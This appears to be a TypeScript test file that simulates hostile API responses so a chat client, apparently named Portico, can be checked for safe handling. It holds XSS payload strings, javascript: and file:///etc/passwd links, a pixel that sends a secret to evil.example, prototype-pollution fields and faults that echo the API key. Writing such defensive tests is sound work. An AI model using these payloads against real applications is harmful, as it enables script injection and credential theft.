// Attacks in answers and errors: markup, links, control characters, and echoes of the API key.
import { tokens } from '../answers/question';
import { dataEvent } from '../formats/chat';
import type { Exchange } from '../http/exchange';
import { chatFault } from './chatFaults';
import {
  answerFault,
  errorFault,
  failed,
  goodAnswer,
  goodText,
  partialText,
  sendPartial,
  stopPart,
  textParts,
  type Fault,
} from './fault';

/** None of this may run, load, or look like a part of Portico. */
const hostileMarkdown = `<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>
<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><style>* { display: none }</style>
<form action="https://evil.example"><button>Set API key</button></form>
<a href="javascript:window.pwned = 1">a</a><base href="https://evil.example/"><details open ontoggle="window.pwned = 1">

[script](javascript:window.pwned=1) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [command](command:workbench.action.terminal.new) [file](file:///etc/passwd) [vscode](vscode://portico.portico/run)
[blank](java\nscript:window.pwned=1) [entity](javascript&colon;window.pwned=1) <javascript:window.pwned=1>
![pixel](https://evil.example/pixel.png?secret=1) ![x](x" onerror="window.pwned=1)
[https://good.example](https://evil.example) [ref]

[ref]: javascript:window.pwned=1 "title\\" onmouseover=window.pwned=1"

\`\`\`html"><script>window.pwned = 1</script>
</code></pre><script>window.pwned = 1</script>
\`\`\`

| <b onclick=window.pwned=1>a</b> | \`<img src=x onerror=window.pwned=1>\` |
| --- | --- |
| {{constructor.constructor('window.pwned=1')()}} | \${window.pwned=1} |
`;

const invisible =
  'left\u202Etfel\u202C zero\u200Bwidth \u2066isolate\u2069 tag\u{E0041}\u{E007F} esc\u001B[31m nul\u0000 bell\u0007 c1\u009B end';

/** The key as plain text, in Base64 and URL-encoded. */
function keyEchoes(exchange: Exchange): string {
  const key = (exchange.request.headers['authorization'] ?? '').replace(/^Bearer /u, '');
  return [key, Buffer.from(key).toString('base64'), encodeURIComponent(key)].join(' ');
}

const markup: readonly Fault[] = [
  ...['fault-xss', 'fault-xss-<img src=x onerror="window.pwned=1">'].map((id) =>
    answerFault({
      id,
      description:
        id === 'fault-xss'
          ? 'The answer is hostile HTML and Markdown.'
          : 'The model ID is hostile HTML, and so is the answer.',
      parts: [...textParts(hostileMarkdown), stopPart],
      expected: {
        state: 'complete',
        text: hostileMarkdown.replace(/\[data\]\S*/u, '[file 1: text/html, 25 B]'),
      },
    }),
  ),
  errorFault({
    id: 'fault-xss-error',
    description: 'The error’s message, type and code are hostile HTML.',
    status: 400,
    body: {
      error: { message: hostileMarkdown, type: '<svg onload=window.pwned=1>', code: '"><script>' },
    },
    headers: { 'X-Oneapi-Request-Id': '<img src=x onerror=window.pwned=1>' },
    expected: failed('badRequest', { detail: '<script>window.pwned = 1</script>' }),
  }),
  answerFault({
    id: 'fault-invisible-characters',
    description: 'The answer contains control, zero-width, tag and bidirectional characters.',
    parts: [...textParts(invisible), stopPart],
    expected: { state: 'complete', text: invisible },
  }),
  chatFault({
    id: 'fault-prototype',
    description: 'Chunks contain fields named __proto__ and constructor.',
    deltas: tokens(goodText).map((content) => ({
      content,
      ['__proto__']: { polluted: true },
      constructor: null,
    })),
    message: { content: goodText, ['__proto__']: { polluted: true } },
    expected: goodAnswer,
  }),
];

const keyEchoFaults: readonly Fault[] = [
  errorFault({
    id: 'fault-401-echoes-key',
    description: '401 that echoes the key as plain text, in Base64 and URL-encoded.',
    status: 401,
    body: (exchange) => ({
      error: {
        message: `Incorrect API key provided: ${keyEchoes(exchange)}`,
        code: 'invalid_api_key',
      },
    }),
    expected: failed('keyRejected', { detail: 'Incorrect API key provided' }),
  }),
  errorFault({
    id: 'fault-500-echoes-header',
    description: '500 that echoes all request headers.',
    status: 500,
    body: (exchange) => ({
      error: {
        message: `Failed: ${JSON.stringify(exchange.request.headers)} ${keyEchoes(exchange)}`,
      },
    }),
    expected: failed('serverError'),
  }),
  {
    id: 'fault-html-echoes-key',
    description: 'A web page with status 200 that shows the key.',
    expected: failed('notApi'),
    serve: ({ exchange }) =>
      exchange.sendHtml(200, `<html><body><pre>${keyEchoes(exchange)}</pre></body></html>`),
  },
  {
    id: 'fault-request-id-echoes-key',
    description: '500 whose request ID is the key.',
    expected: failed('serverError', { status: 500 }),
    serve: ({ exchange }) =>
      exchange.sendJson(
        500,
        { error: { message: 'Failed.', code: keyEchoes(exchange) } },
        { 'X-Oneapi-Request-Id': encodeURIComponent(keyEchoes(exchange)) },
      ),
  },
  {
    id: 'fault-redirect-echoes-key',
    description: '302 to another origin, with the key in the path and the query.',
    expected: failed('redirected', { status: 302 }),
    serve: ({ exchange }, targets) => {
      const key = encodeURIComponent(keyEchoes(exchange));
      return exchange.send(302, 'text/html', '', {
        Location: `${targets.otherOrigin}/${key}?key=${key}`,
      });
    },
  },
  {
    id: 'fault-error-midway-echoes-key',
    description: 'An error in the middle of the stream that echoes the key.',
    only: 'streamed',
    expected: { ...failed('streamError'), text: partialText },
    serve: async (reply) => {
      await sendPartial(reply);
      const message = `Bad key ${keyEchoes(reply.exchange)}`;
      await reply.exchange.end(dataEvent({ error: { message } }));
    },
  },
];

export const hostileFaults: readonly Fault[] = [...markup, ...keyEchoFaults];
